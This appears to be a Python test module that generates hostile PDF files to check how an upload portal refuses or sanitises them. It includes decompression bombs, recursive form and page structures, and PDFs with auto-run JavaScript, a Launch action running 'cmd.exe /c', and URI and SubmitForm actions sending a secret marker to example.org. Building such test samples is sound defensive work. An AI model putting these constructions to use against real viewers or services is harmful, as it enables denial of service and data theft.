"""Hostile PDF files, written by hand. By name: how it is made, and the codes it may be refused with."""

import random
import zlib
from collections.abc import Callable

from tests.portal.base.documents.hostile_pictures import SCRIPT
from tests.portal.base.documents.sending import SECRET, assembled, pdf, photo, stream

Made = Callable[[], bytes]


def flate(body: bytes, head: bytes = b"") -> bytes:
    """A compressed stream."""
    return stream(zlib.compress(body, 9), b"/Filter/FlateDecode" + head)


def with_image(width: int, height: int, bits: int = 1) -> bytes:
    """A page with a picture that is large when unpacked."""
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d" % (width, height, bits)
    body = b"\0" * (width * height * bits // 8)
    resources = b"/Resources<</XObject<</I 10 0 R>>>>"
    return pdf(
        flate(body, head + b"/ColorSpace/DeviceGray"), page=resources, content=b"500 0 0 500 0 0 cm /I Do"
    )


def laughing() -> bytes:
    """Forms that draw ten forms that draw ten forms, eight deep."""
    forms = [
        stream(
            b"/F Do " * 10 if n < 8 else b"0 0 9 9 re f " * 20,
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</F %d 0 R>>>>" % (11 + n),
        )
        for n in range(9)
    ]
    return pdf(*forms, page=b"/Resources<</XObject<</F 10 0 R>>>>", content=b"/F Do")


def turning() -> bytes:
    """Pages whose kid is their own parent."""
    return assembled(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>"}
    )


def locked() -> bytes:
    """Encrypted with a password that nobody here knows."""
    dice = random.Random(4)
    hexed = [dice.randbytes(32).hex().encode() for _each in range(3)]
    return pdf(
        b"<</Filter/Standard/V 1/R 2/Length 40/P -44/O<" + hexed[0] + b">/U<" + hexed[1] + b">>>",
        trailer=b"/Encrypt 10 0 R/ID[<" + hexed[2] + b"><" + hexed[2] + b">]",
    )


REFUSED: dict[str, tuple[Made, set[str]]] = {
    "pdf header only": (lambda: b"%PDF-1.7\n", {"broken"}),
    "pdf and noise": (lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(3_000), {"broken"}),
    "pdf cut": (lambda: pdf(pages=4)[:300], {"broken"}),
    "pdf behind other bytes": (lambda: b"MZ" + pdf(), {"type"}),
    "pdf with a password": (locked, {"locked"}),
    "pdf of 10,000 pages": (lambda: pdf(pages=10_000), {"pages"}),
    "pdf of 21 pages": (lambda: pdf(pages=21), {"pages"}),
    "pdf of no page": (lambda: pdf(pages=0), {"broken"}),
    "pdf that claims a million pages": (lambda: pdf(count=1_000_000), {"pages", "broken", "heavy"}),
    "pdf whose pages are their own kids": (turning, {"broken", "pages", "heavy"}),
    "pdf of forms in forms": (laughing, {"heavy"}),
    "pdf with a stream of 300 MB": (
        lambda: pdf(flate(b"0 0 9 9 re f\n" * 23_000_000), page=b"/Contents 10 0 R", content=b" "),
        {"heavy", "broken"},
    ),
}
# These may be refused, or shown; the child stays small and quick either way.
EITHER: dict[str, Made] = {
    "pdf with a picture of 900 megapixels": lambda: with_image(30_000, 30_000),
    "pdf with a picture of 100 megapixels in grey": lambda: with_image(10_000, 10_000, 8),
    "pdf of brackets in brackets": lambda: pdf(b"[" * 200_000 + b"]" * 200_000, page=b"/Annots 10 0 R"),
    "pdf whose table of places points at itself": lambda: pdf(trailer=b"/Prev 9"),
    "pdf page as large as a county": lambda: pdf(box=b"0 0 9000000000 9000000000"),
    "pdf page as thin as a hair": lambda: pdf(box=b"0 0 0.001 14400"),
    "pdf page turned inside out": lambda: pdf(box=b"600 800 0 0"),
    "pdf of a torn font": lambda: pdf(
        flate(random.Random(6).randbytes(9_000)),
        b"<</Type/FontDescriptor/FontName/X/FontFile2 10 0 R/Flags 4>>",
        b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 11 0 R>>",
        page=b"/Resources<</Font<</X 12 0 R>>>>",
        content=b"BT /X 40 Tf 50 500 Td (abc) Tj ET",
    ),
    "pdf with a torn picture of JPEG 2000": lambda: pdf(
        stream(
            b"\0\0\0\x0cjP  \r\n\x87\n" + random.Random(7).randbytes(900),
            b"/Subtype/Image/Width 9000/Height 9000/Filter/JPXDecode",
        ),
        page=b"/Resources<</XObject<</I 10 0 R>>>>",
        content=b"500 0 0 500 0 0 cm /I Do",
    ),
    "pdf with a torn picture of JBIG2": lambda: pdf(
        stream(
            random.Random(8).randbytes(900),
            b"/Subtype/Image/Width 9000/Height 9000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
        ),
        page=b"/Resources<</XObject<</I 10 0 R>>>>",
        content=b"500 0 0 500 0 0 cm /I Do",
    ),
    "pdf thrown about": lambda: _thrown(pdf(pages=5), 9),
}


def _thrown(raw: bytes, seed: int) -> bytes:
    dice, torn = random.Random(seed), bytearray(raw)
    for _byte in range(60):
        torn[dice.randrange(20, len(raw))] = dice.randrange(256)
    return bytes(torn)


JS = b"<</S/JavaScript/JS(app.alert\\('" + SECRET + b"'\\))>>"
HARMLESS: dict[str, Made] = {
    "pdf that runs a script when opened": lambda: pdf(JS, catalog=b"/OpenAction 10 0 R"),
    "pdf with scripts by name": lambda: pdf(
        JS, catalog=b"/Names<</JavaScript<</Names[(a)10 0 R]>>>>"
    ),
    "pdf that starts a program": lambda: pdf(
        b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c " + SECRET + b")>>>>", catalog=b"/OpenAction 10 0 R"
    ),
    "pdf that opens an address": lambda: pdf(
        b"<</S/URI/URI(http://example.org/" + SECRET + b")>>", catalog=b"/OpenAction 10 0 R"
    ),
    "pdf that opens another file": lambda: pdf(
        b"<</S/GoToR/F(\\\\\\\\host\\\\share)/D[0/Fit]>>", page=b"/AA<</O 10 0 R>>"
    ),
    "pdf that sends a form": lambda: pdf(
        b"<</S/SubmitForm/F(http://example.org/" + SECRET + b")>>", page=b"/AA<</C 10 0 R>>"
    ),
    "pdf with a file in it": lambda: pdf(
        stream(b"MZ" + SECRET, b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(a.exe)/EF<</F 10 0 R>>>>",
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)11 0 R]>>>>",
    ),
    "pdf with a file pinned to the page": lambda: pdf(
        stream(SCRIPT, b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(a.html)/EF<</F 10 0 R>>>>",
        b"<</Type/Annot/Subtype/FileAttachment/FS 11 0 R/Rect[0 0 20 20]>>",
        page=b"/Annots[12 0 R]",
    ),
    "pdf form with a script on its field": lambda: pdf(
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[50 50 200 80]/AA<</F 11 0 R>>>>",
        JS,
        catalog=b"/AcroForm<</Fields[10 0 R]>>",
        page=b"/Annots[10 0 R]",
    ),
    "pdf form of the other kind": lambda: pdf(
        stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + SCRIPT + b"</xdp:xdp>"),
        catalog=b"/AcroForm<</Fields[]/XFA 10 0 R>>",
    ),
    "pdf with a film": lambda: pdf(
        stream(SECRET),
        b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 90 90]/RichMediaContent<</Assets<<>>>>>>",
        page=b"/Annots[11 0 R]",
    ),
    "pdf that tells who wrote it": lambda: pdf(
        b"<</Author(" + SECRET + b")/Title(" + SECRET + b")>>", trailer=b"/Info 10 0 R"
    ),
    "pdf with a page behind it": lambda: pdf() + SCRIPT,
    "pdf with a photo and its place": lambda: pdf(
        stream(
            photo(size=(64, 48), comment=SECRET),
            b"/Subtype/Image/Width 64/Height 48/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode",
        ),
        page=b"/Resources<</XObject<</I 10 0 R>>>>",
        content=b"500 0 0 500 0 0 cm /I Do",
    ),
}  # fmt: skip
